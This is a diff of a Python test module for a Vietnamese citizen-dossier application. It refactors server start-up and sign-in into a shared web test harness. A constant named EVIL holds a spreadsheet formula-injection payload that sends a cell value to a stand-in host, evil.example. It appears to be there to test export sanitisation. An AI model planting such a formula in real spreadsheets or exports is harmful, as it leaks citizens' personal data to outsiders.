@@ -14,9 +14,6 @@ import json
 import os
 import subprocess
 import sys
-import time
-import urllib.error
-import urllib.request
 from datetime import date, datetime, timedelta
 from pathlib import Path
 
@@ -30,12 +27,11 @@ from dossier.events import VALIDITY_CONFIRMED, Store, load_events
 from dossier.procedures import load_procedures
 from pipeline.manifest import read_manifest
 from tests.catalogue_history import VN, doc, ingest, vn
-from tests.test_web_e2e import _free_port, browser  # noqa: F401  (browser: a fixture)
+from tests.web_harness import ROOT, free_port, serve, sign_in
 
 A = "001203004567"
 OFFICER, SUPERVISOR, PASSWORD = "Lan", "Giám sát", "mat-khau-giam-sat-1"
 EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Xem")'
-ROOT = Path(__file__).resolve().parent.parent
 
 
 def hoso(*args: str, env: dict | None = None, data: Path | None = None) -> subprocess.CompletedProcess:
@@ -363,7 +359,7 @@ def test_an_unknown_time_zone_is_one_message_naming_the_variable(residence, tmp_
         hoso("stats", "--period", "2026-12", "--officer", SUPERVISOR, env=bad, data=residence),
         hoso("search", "--citizen-id", A, "--officer", OFFICER, env=bad, data=residence),
         hoso("dossier", "show", "HS-TT-1", "--officer", OFFICER, env=bad, data=residence),
-        hoso("serve", "--port", str(_free_port()), env=bad, data=residence),
+        hoso("serve", "--port", str(free_port()), env=bad, data=residence),
         hoso("ingest", str(_scan_png(tmp_path / "scan.png")), env=bad, data=tmp_path / "data"),
     ]
     for done in runs:
@@ -377,40 +373,20 @@ def test_an_unknown_time_zone_is_one_message_naming_the_variable(residence, tmp_
 
 @pytest.fixture
 def served(papers):
-    port = _free_port()
-    log_path = papers / "serve.log"
-    env = {**os.environ, "OMP_THREAD_LIMIT": "1"}
-    env.pop("HOSO_TIMEZONE", None)
-    with open(log_path, "w+", encoding="utf-8") as log:
-        process = subprocess.Popen([sys.executable, "-m", "cli", "serve", "--port", str(port), "--data-dir",
-                                    str(papers)], stdout=log, stderr=subprocess.STDOUT, cwd=ROOT, env=env)
-        base = f"http://127.0.0.1:{port}"
-        deadline = time.monotonic() + 60
-        while True:
-            try:
-                urllib.request.urlopen(f"{base}/dang-nhap", timeout=2)
-                break
-            except (urllib.error.URLError, ConnectionError):
-                assert process.poll() is None and time.monotonic() < deadline, log_path.read_text()[-2000:]
-                time.sleep(0.3)
+    env = {"OMP_THREAD_LIMIT": "1", "HOSO_TIMEZONE": None}
+    with serve(papers, env=env, no_traceback=True) as (base, _):
         yield base, papers
-        process.terminate()
-        process.wait(timeout=20)
-    assert "Traceback" not in log_path.read_text(encoding="utf-8")
 
 
-def _signed_in(browser, base):  # noqa: F811
+def _signed_in(browser, base):
     context = browser.new_context(viewport={"width": 1366, "height": 768}, locale="vi-VN")
     page = context.new_page()
-    page.goto(base + "/dang-nhap")
-    page.fill("#ten", SUPERVISOR)
-    page.fill("#mat-khau", PASSWORD)
-    page.click("#dang-nhap")
+    sign_in(page, base, SUPERVISOR, PASSWORD)
     assert page.url == base + "/"
     return context, page
 
 
-def test_web_stats_on_a_period_beyond_the_calendar_answer_400_in_vietnamese(served, browser):  # noqa: F811
+def test_web_stats_on_a_period_beyond_the_calendar_answer_400_in_vietnamese(served, browser):
     base, _ = served
     context, page = _signed_in(browser, base)
     for path in ("/thong-ke", "/thong-ke/bieu-do.png", "/thong-ke/bao-cao.xlsx"):
@@ -422,7 +398,7 @@ def test_web_stats_on_a_period_beyond_the_calendar_answer_400_in_vietnamese(serv
     context.close()
 
 
-def test_web_reuse_of_unknown_validity_needs_the_checkbox_and_a_later_expiry_is_flagged(served, browser):  # noqa: F811
+def test_web_reuse_of_unknown_validity_needs_the_checkbox_and_a_later_expiry_is_flagged(served, browser):
     base, data = served
     assert hoso("dossier", "open", "--dossier", "HS-W-1", "--citizen-id", A, "--procedure", "dang_ky_ket_hon",
                 "--officer", OFFICER, data=data).returncode == 0
